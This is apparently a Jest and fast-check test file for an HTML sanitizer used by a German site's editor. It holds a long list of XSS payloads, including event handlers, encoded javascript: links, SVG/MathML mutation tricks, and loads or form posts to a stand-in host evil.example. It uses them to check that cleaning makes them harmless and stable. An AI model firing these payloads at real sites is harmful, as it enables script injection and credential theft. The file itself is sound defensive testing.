/**
 * @jest-environment jsdom
 */
import * as fc from 'fast-check';
import { HTML_BLOCK, RICH_TEXT } from './allowedMarkup.ts';
import { cleanHtml, cleanRichText } from './cleanMarkup.ts';

/**
 * Markup that means harm, of every school: handlers, protocols,
 * entities, foreign content, raw text, clobbering, mutation.
 */
const VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror = "alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<body onload=alert(1)>',
  '<p onmouseover="alert(1)">Text</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://ok.example" style="position:fixed;inset:0">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<style>@import url(https://evil.example)</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<p style="color:red;background-image:url(https://evil.example)">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example/>',
  '<iframe src="https://evil.example/?youtube.com/embed/abcdef"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/abcdefgh"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button>Ja</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<video><source onerror="alert(1)" src=x></video>',
  '<video src="https://evil.example/track.mp4" poster="javascript:alert(1)" autoplay onplay=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<img name=getElementById id=body src=/media/a.jpg>',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/pixel.gif 1x" src=/media/a.jpg>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<a href="https://x.example" target="_blank" rel="opener">x</a>',
  '<p><p><p><a href=x:y><b><i>offen',
  `${'<div>'.repeat(300)}<img src=x onerror=alert(1)>`,
];

/**
 * Characters of markup that were written as such, escaped once
 * and twice, inside whatever keeps its text from being markup.
 */
const ESCAPED = ['&', '&amp;', '&lt;', '&amp;amp;', '&#38;', '&quot;', '&copy', '<b>', 'x=1&y=2'];
const RAW = [
  'iframe',
  'xmp',
  'noembed',
  'noframes',
  'noscript',
  'plaintext',
  'title',
  'textarea',
  'style',
  'script',
  'svg',
  'math',
];

const CLEANERS = [
  ['Rich text', cleanRichText, RICH_TEXT],
  ['An HTML module', cleanHtml, HTML_BLOCK],
] as const;

describe.each(CLEANERS)('%s', (_, clean, { allowedTags, allowedAttributes }) => {
  it.each(VECTORS)('comes out of %j harmless, and the same a second time', (vector) => {
    const cleaned = clean(vector);
    expect(clean(cleaned)).toBe(cleaned);
    expect(findHarm(cleaned, allowedTags as string[], allowedAttributes as Record<string, string[]>)).toEqual([]);
  });

  it.each(RAW)('escapes nothing once more for standing in <%s>', (tag) => {
    const player = 'src="https://www.youtube.com/embed/dQw4w9WgXcQ?a=1&amp;b=2"';
    for (const text of ESCAPED) {
      for (const markup of [`<${tag}>${text}</${tag}>`, `<${tag} ${player}>${text}`, `<p>a<${tag} ${player}>${text}</${tag}>b`]) {
        const cleaned = clean(markup);
        expect([markup, clean(cleaned)]).toEqual([markup, cleaned]);
        expect([markup, escapedTwice(cleaned)]).toEqual([markup, Math.min(escapedTwice(cleaned), escapedTwice(markup))]);
      }
    }
  });

  it('is harmless and stable whatever the pieces are put together to', () => {
    const piece = fc.oneof(
      fc.constantFrom(...VECTORS),
      fc.constantFrom(
        '<p>',
        '</p>',
        '<a href="',
        '">',
        '<svg>',
        '<math>',
        '<style>',
        '</style>',
        '<!--',
        '-->',
        '<table>',
        '&lt;',
        '&#x3c;',
        '<![CDATA[',
        '&amp;',
        '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?a=1&amp;b=2">',
        '<xmp>',
        ' ',
      ),
      fc.string({ unit: 'grapheme', maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const cleaned = clean(pieces.join(''));
        expect(clean(cleaned)).toBe(cleaned);
        expect(findHarm(cleaned, allowedTags as string[], allowedAttributes as Record<string, string[]>)).toEqual([]);
      }),
      { numRuns: 300, seed: 20_261_121 },
    );
  });
});

/** How often something escaped was escaped once more. */
function escapedTwice(markup: string): number {
  return markup.match(/(?:&amp;|&#38;)(?:amp|lt|gt|quot|copy|#)/g)?.length ?? 0;
}

/**
 * What a browser makes of markup, as far as it is not on the list or leads somewhere it must not.
 */
function findHarm(markup: string, tags: readonly string[], attributes: Readonly<Record<string, readonly string[]>>): string[] {
  const { body, head } = new DOMParser().parseFromString(markup, 'text/html');
  const harm = [...head.querySelectorAll('*')].map((element) => `${element.localName} in the head`);
  for (const element of body.querySelectorAll('*')) {
    const tag = element.localName;
    // A browser adds the body of a table by itself.
    if (!tags.includes(tag) && tag !== 'tbody') harm.push(`<${tag}>`);
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') harm.push(`<${tag}> of another language`);
    for (const { name, value } of element.attributes) {
      if (![...(attributes[tag] ?? []), ...(attributes['*'] ?? [])].includes(name)) harm.push(`${tag}[${name}]`);
      if (name === 'href' && !/^(?:https?:\/\/|mailto:|tel:|#|\?|\/(?![/\\]))/i.test(value)) harm.push(`href=${value}`);
      if (['src', 'poster'].includes(name) && tag !== 'iframe' && !/^\/(?![/\\])/.test(value)) harm.push(`${name}=${value}`);
      if (name === 'style' && /url|expression|position|@|\\/i.test(value)) harm.push(`style=${value}`);
    }
    if (tag === 'iframe' && !/^https:\/\/(?:www\.youtube\.com|issuu\.com)\//.test(element.getAttribute('src') ?? '')) {
      harm.push(`frame of ${element.getAttribute('src')}`);
    }
    if (element.getAttribute('target') && element.getAttribute('rel') !== 'noopener') harm.push('a window that can reach back');
  }
  return harm;
}

describe('What an editor writes', () => {
  it.each([
    ['<p>Ein <strong>Abend</strong>, <em>zwei</em> Häuser &amp; ein Fluss.</p>'],
    ['<p>Anfahrt</p><ul><li>Bahn</li><li>Bus</li></ul><ol><li>eins</li></ol>'],
    ['<p><a href="/de/besuch">Besuch</a> <a href="#karten">Karten</a> <a href="mailto:kasse@altwasser.example">Kasse</a></p>'],
    ['<p><a href="https://example.org/?a=1&amp;b=2" target="_blank" rel="noopener">Fluss</a></p>'],
    ['<p>1 &lt; 2 und „so“ – weiter…</p>'],
  ])('stays as it is: %s', (markup) => {
    expect(cleanRichText(markup)).toBe(markup);
    expect(cleanHtml(markup)).toBe(markup);
  });

  it.each([
    ['<h1>Titel</h1><h2>groß</h2><h5>klein</h5>', '<p>Titel</p><p>groß</p><p>klein</p>'],
    ['<p>Eins</p><blockquote><p>Zitat</p></blockquote>', '<p>Eins</p><p>Zitat</p>'],
    ['<a href="kasse@altwasser.example">Kasse</a>', '<a href="mailto:kasse@altwasser.example">Kasse</a>'],
    ['<a href="www.altwasser.example/karten">Karten</a>', '<a href="https://www.altwasser.example/karten">Karten</a>'],
    ['<a href="https://x.example" target="_blank">x</a>', '<a href="https://x.example" target="_blank" rel="noopener">x</a>'],
    ['<a href="https://x.example" target="_top">x</a>', '<a href="https://x.example">x</a>'],
    ['<a href="javascript:alert(1)">Karten</a>', 'Karten'],
    ['<div><p class="x">Nur <u>Text</u></p></div>', '<p>Nur Text</p>'],
  ])('is put right: %s', (markup, cleaned) => {
    expect(cleanRichText(markup)).toBe(cleaned);
  });

  it('may use tables, figures, its own pictures and players in an HTML module', () => {
    const markup =
      '<figure class="wide"><img src="/media/uploads/a-800.jpg" alt="" loading="lazy" /><figcaption>Ufer</figcaption></figure><table><tbody><tr><th scope="row">Mo</th><td>geschlossen</td></tr></tbody></table><p style="text-align:center;color:#b9341a">Text</p>';
    expect(cleanHtml(markup)).toBe(markup);
    expect(cleanHtml('<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="x()" width="560"></iframe>')).toBe(
      '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" loading="lazy" referrerpolicy="no-referrer" sandbox="allow-scripts allow-same-origin allow-popups allow-presentation" width="560"></iframe>',
    );
  });
});
